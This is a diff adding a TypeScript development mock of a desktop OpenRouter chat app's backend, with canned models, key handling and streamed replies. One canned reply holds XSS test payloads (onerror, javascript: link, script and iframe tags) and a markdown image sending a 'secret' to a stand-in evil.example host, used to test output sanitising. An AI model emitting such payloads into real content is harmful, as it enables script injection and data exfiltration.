@@ -1,0 +1,216 @@
+// Dev-only stand-in for the Rust core, to try the page in a browser: `npm run dev:mock`.
+// It answers the commands of IPC.md from memory and streams canned replies over fake Channels.
+// Type a message containing one of these words to see a case:
+//   "credits" (402 error with "Add credits"), "interrupt" (stream breaks), "badkey" (401),
+//   "reject" (send_message rejects), "xss" (hostile markdown), "long" (a long reply).
+import type {
+  AppStatus,
+  ConversationSummary,
+  Message,
+  ModelSummary,
+  Settings,
+  StreamEvent,
+  TurnStarted,
+  UserError,
+} from "../api";
+
+type Callback = (message: unknown) => void;
+
+const MODELS: ModelSummary[] = [
+  { id: "anthropic/claude-sonnet-4.5", name: "Anthropic: Claude Sonnet 4.5", description: "Strong at coding and agents.", context_length: 1_000_000, prompt_price_per_million: "3", completion_price_per_million: "15", is_free: false, supports_reasoning: true },
+  { id: "deepseek/deepseek-r1:free", name: "DeepSeek: R1 (free)", description: "Open reasoning model.", context_length: 163_840, prompt_price_per_million: "0", completion_price_per_million: "0", is_free: true, supports_reasoning: true },
+  { id: "google/gemini-2.5-flash", name: "Google: Gemini 2.5 Flash", description: "Fast multimodal model.", context_length: 1_048_576, prompt_price_per_million: "0.3", completion_price_per_million: "2.5", is_free: false, supports_reasoning: true },
+  { id: "openai/gpt-4o-mini", name: "OpenAI: GPT-4o-mini", description: "Small, cheap, capable.", context_length: 128_000, prompt_price_per_million: "0.15", completion_price_per_million: "0.6", is_free: false, supports_reasoning: false },
+  { id: "openrouter/auto", name: "Auto Router", description: "Picks a model for each prompt.", context_length: 2_000_000, prompt_price_per_million: "varies", completion_price_per_million: "varies", is_free: false, supports_reasoning: false },
+];
+
+const REPLY = `Here is a short answer with **markdown**.
+
+1. A list item
+2. Another one with \`inline code\`
+
+\`\`\`python
+def greet(name: str) -> str:
+    return f"Hello, {name}!"
+\`\`\`
+
+| Model | Price |
+|---|---:|
+| small | $0.15 |
+| large | $15 |
+
+> Links open in your browser: [OpenRouter docs](https://openrouter.ai/docs).
+`;
+
+const XSS_REPLY = `Attempted attacks, all inert:
+
+<img src=x onerror="alert(1)"> ![exfil](https://evil.example/?q=secret) [js](javascript:alert(1))
+
+<script>alert(2)</script><iframe srcdoc="<script>alert(3)</script>"></iframe>
+`;
+
+export function installMockCore(): void {
+  const callbacks = new Map<number, Callback>();
+  let nextCallback = 1;
+  let hasKey = false;
+  let settings: Settings = { default_model: "openai/gpt-4o-mini", theme: "system" };
+  const conversations = new Map<number, ConversationSummary>();
+  const messages = new Map<number, Message[]>();
+  const running = new Map<number, () => void>();
+  let nextId = 1;
+
+  const fail = (kind: UserError["kind"], message: string, action: UserError["action"] = null): never => {
+    throw { kind, message, action, retry_after_secs: null } satisfies UserError;
+  };
+
+  function channel(arg: unknown): (event: StreamEvent) => void {
+    const id = Number(String((arg as { toJSON(): string }).toJSON()).split(":")[1]);
+    let index = 0;
+    return (event) => callbacks.get(id)?.({ index: index++, message: event });
+  }
+
+  function stream(text: string, assistant: Message, send: (event: StreamEvent) => void): void {
+    const conversation = conversations.get(assistant.conversation_id);
+    send({ type: "meta", model: assistant.model, provider: "MockProvider" });
+    const reply =
+      text.includes("xss") ? XSS_REPLY : text.includes("long") ? Array.from({ length: 40 }, () => REPLY).join("\n") : REPLY;
+    const reasoning = text.includes("think") || text.includes("long") ? "Let me think about this step by step. " : "";
+    let at = 0;
+    let stopped = false;
+    running.set(assistant.id, () => {
+      stopped = true;
+    });
+    const finish = (status: Message["status"], error: UserError | null): void => {
+      running.delete(assistant.id);
+      assistant.status = status;
+      assistant.error = error;
+      const usage = { prompt_tokens: 1234, completion_tokens: Math.ceil(at / 4), reasoning_tokens: reasoning ? 12 : null, cached_tokens: null, cost_usd: 0.0000368 * Math.ceil(at / 4) };
+      assistant.usage = usage;
+      send({ type: "usage", usage });
+      send({ type: "done", status, finish_reason: status === "complete" ? "stop" : null, error });
+      if (conversation) conversation.updated_at = Date.now();
+    };
+    if (reasoning) send({ type: "delta", content: "", reasoning });
+    assistant.reasoning = reasoning || null;
+    const tick = (): void => {
+      if (stopped) return finish("stopped", null);
+      if (text.includes("credits")) {
+        return finish("error", { kind: "no_credits", message: "Your OpenRouter credits are used up.", action: { kind: "open_url", label: "Add credits", url: "https://openrouter.ai/settings/credits" } });
+      }
+      if (text.includes("badkey")) {
+        return finish("error", { kind: "unauthorized", message: "OpenRouter did not accept your API key.", action: { kind: "enter_key", label: "Enter a new key" } });
+      }
+      if (text.includes("interrupt") && at > reply.length / 2) {
+        return finish("interrupted", { kind: "interrupted", message: "The connection dropped before the reply was complete." });
+      }
+      if (at >= reply.length) return finish("complete", null);
+      const size = 1 + Math.floor(Math.random() * 6);
+      const chunk = reply.slice(at, at + size);
+      at += size;
+      assistant.content += chunk;
+      send({ type: "delta", content: chunk, reasoning: "" });
+      setTimeout(tick, 15);
+    };
+    setTimeout(tick, 300);
+  }
+
+  function startTurn(conversationId: number, model: string, text: string, send: (event: StreamEvent) => void, userId: number): TurnStarted {
+    const assistant: Message = {
+      id: nextId++, conversation_id: conversationId, role: "assistant", content: "", reasoning: null, status: "streaming",
+      model, provider: "MockProvider", finish_reason: null, error: null, usage: null, created_at: Date.now(),
+    };
+    messages.get(conversationId)?.push(assistant);
+    stream(text, assistant, send);
+    return { conversation_id: conversationId, user_message_id: userId, assistant_message_id: assistant.id };
+  }
+
+  const commands: Record<string, (args: Record<string, unknown>) => unknown> = {
+    app_status: (): AppStatus => ({ has_key: hasKey, key_storage: hasKey ? "keyring" : "none", keyring_problem: null, version: "0.1.0-mock" }),
+    save_api_key: (args) => {
+      const key = String(args["key"]);
+      if (!key.startsWith("sk-or-")) fail("unauthorized", "OpenRouter did not accept this key. Check that you copied all of it.");
+      if (key.includes("nokeyring") && !args["sessionOnly"]) {
+        fail("keyring_unavailable", "Your system keyring cannot be used, so the key cannot be saved for next time.");
+      }
+      hasKey = true;
+      return { label: "sk-or-v1-abc…xyz", limit: null, limit_remaining: null, usage: 0, is_free_tier: false, stored_in: args["sessionOnly"] ? "session" : "keyring" };
+    },
+    forget_api_key: () => {
+      hasKey = false;
+      return null;
+    },
+    list_models: () => MODELS,
+    list_conversations: () => Array.from(conversations.values()).sort((a, b) => b.updated_at - a.updated_at),
+    get_conversation: (args) => {
+      const conversation = conversations.get(Number(args["id"])) ?? fail("invalid_input", "That conversation no longer exists.");
+      return { conversation, messages: messages.get(conversation.id) ?? [] };
+    },
+    delete_conversation: (args) => {
+      conversations.delete(Number(args["id"]));
+      return null;
+    },
+    send_message: (args) => {
+      const text = String(args["text"]);
+      if (text.includes("reject")) fail("offline", "Could not reach OpenRouter. Check your internet connection.", { kind: "retry", label: "Try again" });
+      let id = args["conversationId"] as number | null;
+      const model = String(args["model"]);
+      if (id === null) {
+        id = nextId++;
+        conversations.set(id, { id, title: text.slice(0, 40), model, created_at: Date.now(), updated_at: Date.now(), message_count: 0 });
+        messages.set(id, []);
+      }
+      const conversation = conversations.get(id) ?? fail("invalid_input", "That conversation no longer exists.");
+      conversation.model = model;
+      const user: Message = {
+        id: nextId++, conversation_id: id, role: "user", content: text, reasoning: null, status: "complete",
+        model: null, provider: null, finish_reason: null, error: null, usage: null, created_at: Date.now(),
+      };
+      messages.get(id)?.push(user);
+      return startTurn(id, model, text, channel(args["onEvent"]), user.id);
+    },
+    retry_reply: (args) => {
+      const oldId = Number(args["assistantMessageId"]);
+      for (const [conversationId, list] of messages) {
+        const index = list.findIndex((message) => message.id === oldId);
+        if (index < 0) continue;
+        const old = list[index] as Message;
+        list.splice(index, 1);
+        const user = list[index - 1];
+        const conversation = conversations.get(conversationId);
+        return startTurn(conversationId, old.model ?? conversation?.model ?? settings.default_model, user?.content ?? "", channel(args["onEvent"]), user?.id ?? 0);
+      }
+      return fail("invalid_input", "That reply no longer exists.");
+    },
+    stop_reply: (args) => {
+      running.get(Number(args["assistantMessageId"]))?.();
+      return null;
+    },
+    get_settings: () => settings,
+    update_settings: (args) => {
+      settings = args["settings"] as Settings;
+      return settings;
+    },
+    open_external: (args) => {
+      window.open(String(args["url"]), "_blank", "noopener");
+      return null;
+    },
+  };
+
+  const internals = {
+    transformCallback(callback: Callback): number {
+      const id = nextCallback++;
+      callbacks.set(id, callback);
+      return id;
+    },
+    unregisterCallback(id: number): void {
+      callbacks.delete(id);
+    },
+    async invoke(command: string, args: Record<string, unknown> = {}): Promise<unknown> {
+      await new Promise((resolve) => setTimeout(resolve, command === "save_api_key" ? 600 : 60));
+      const handler = commands[command];
+      if (!handler) throw `command ${command} not found`;
+      return handler(args);
+    },
+  };
+  (window as unknown as { __TAURI_INTERNALS__: typeof internals }).__TAURI_INTERNALS__ = internals;
+}
